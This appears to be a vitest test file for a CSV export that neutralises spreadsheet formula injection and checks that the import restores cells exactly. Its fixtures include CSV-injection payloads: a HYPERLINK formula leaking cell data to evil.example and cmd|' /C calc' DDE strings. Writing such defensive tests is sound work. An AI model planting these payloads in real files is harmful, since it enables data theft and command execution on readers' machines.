/**
 * The CSV we publish is opened in Excel by business managers and the public: no cell may run
 * as a formula there (OWASP's CSV injection), and `npm run import` must read every cell back
 * to the text it came from.
 */
import { afterEach, describe, expect, it } from 'vitest';
import { checkContent } from '../../src/model/check.ts';
import { actionColumns, actionsCsv } from '../../src/open-data/actions-csv.ts';
import { parseCsv, toCsv } from '../../src/open-data/csv.ts';
import { isFormula, restoreNeutralised } from '../../src/open-data/formulas.ts';
import { validTree, writeTree, type ContentTree } from '../helpers/content-tree.ts';

/** Payloads from OWASP's CSV injection page and the usual write-ups, and text that merely looks like them. */
const risky = [
  '=HYPERLINK("https://evil.example/?leak="&A1,"Click for the report")',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '  =1+1',
  '- completed audit\n- trained 40 staff',
  '-',
  '-5',
  "'=1+1",
  "''@x",
];

let tree: ContentTree | undefined;
afterEach(() => {
  tree?.remove();
  tree = undefined;
});

describe('toCsv', () => {
  it('puts an apostrophe before every cell a spreadsheet would run as a formula, and the import reads each back exactly', () => {
    const cells = parseCsv(toCsv([risky])).rows[0];
    for (const cell of cells) expect(cell, JSON.stringify(cell)).toMatch(/^'/);
    expect(cells.map(restoreNeutralised)).toEqual(risky);
  });

  it('leaves every other cell as it is', () => {
    const plain = ['Deliver neglect training', "'Tis done", "O'Brien", 'a = b', '2021-09-30', 'in-progress', '', '£5 – “quoted”'];
    const cells = parseCsv(toCsv([plain])).rows[0];
    expect(cells).toEqual(plain);
    expect(cells.map(restoreNeutralised)).toEqual(plain);
  });

  it('quotes a cell holding a semicolon or a tab, so a spreadsheet that splits on them keeps it one cell', () => {
    expect(toCsv([['a;=1+1', 'b\t=1+1', 'c']])).toBe('"a;=1+1","b\t=1+1",c\r\n');
  });
});

describe('isFormula, the one rule for every cell the import would write', () => {
  it('refuses what a spreadsheet could run, with the apostrophe our export adds taken off first', () => {
    const formulas = [
      '=1+1',
      '@SUM(A1)',
      "+cmd|' /C calc'!A0",
      "-cmd|' /C calc'!A0",
      '-2+3',
      '- SUM(A1:A9)',
      "- 1+cmd|' /C calc'!A0",
      '- completed audit',
      '-5',
      '\t=1',
      '\r=1',
      '  =1+1',
      // Behind the apostrophe: the export's mark, not a promise that what follows is safe.
      "'=cmd|' /C calc'!A0",
      "'@SUM(1+1)",
      "' =1+1",
    ];
    const text = ['Audit done.', "'Tis done", "O'Brien", 'a = b', '2021-09-30', '5 referrals, -2 on last year', "''=1+1", ''];
    expect(formulas.filter((cell) => !isFormula(cell))).toEqual([]);
    expect(text.filter((cell) => isFormula(cell))).toEqual([]);
  });

  it('refuses a cell the export wrote exactly when the text it came from starts like a formula', () => {
    // OWASP's list: =, +, -, @, a tab or a carriage return, after any spaces.
    const startsFormula = (text: string) => /^(?:[\t\r]|\s*[=+\-@])/.test(text);
    for (const text of [...risky, 'Deliver neglect training', "'Tis done", '2021-09-30']) {
      const exported = parseCsv(toCsv([[text]])).rows[0][0];
      expect(isFormula(exported), JSON.stringify(text)).toBe(startsFormula(text));
    }
  });
});

describe('actions.csv', () => {
  it('never hands a spreadsheet a formula from an action file', () => {
    const base = validTree();
    tree = writeTree({
      ...base,
      'hampshire/actions/deliver-training.md': base['hampshire/actions/deliver-training.md']
        .replace('title: Deliver neglect training', 'title: "=HYPERLINK(\\"https://evil.example/\\",\\"Open\\")"')
        .replace('text: First sessions delivered.', "text: \"+cmd|' /C calc'!A0\"\n    by: '@SUM(1+1)'"),
    });
    const { index, problems } = checkContent(tree.contentDir);
    expect(problems).toEqual([]);
    const [header, row] = parseCsv(actionsCsv(index.partnership('hampshire')!.actions, () => '/hampshire/actions/deliver-training/')).rows;
    const cell = (name: (typeof actionColumns)[number]) => row[header.indexOf(name)];
    expect([cell('title'), cell('last_update_by'), cell('last_update_text')]).toEqual([
      `'=HYPERLINK("https://evil.example/","Open")`,
      "'@SUM(1+1)",
      "'+cmd|' /C calc'!A0",
    ]);
  });
});
